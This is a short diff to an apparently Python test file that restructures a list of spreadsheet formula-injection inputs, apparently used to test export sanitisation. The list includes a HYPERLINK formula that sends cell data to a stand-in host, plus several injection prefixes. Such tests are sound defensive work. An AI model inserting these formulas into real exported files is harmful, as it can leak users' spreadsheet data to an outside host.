@@ -16,15 +16,11 @@ pytestmark = pytest.mark.filterwarnings("ignore::sqlalchemy.exc.SAWarning")
 
 FORMULAS = [
     '=HYPERLINK("http://x/?"&A1,"x")',
-    "+1+1",
-    "-2+3",
-    "@SUM(A1)",
+    *"+1+1 -2+3 @SUM(A1) \uff1d1+1 -".split(),
     "\t=1+1",
     "\r=1+1",
     "\n=1",
     " =1+1",
-    "\uff1d1+1",
-    "-",
 ]
 
 
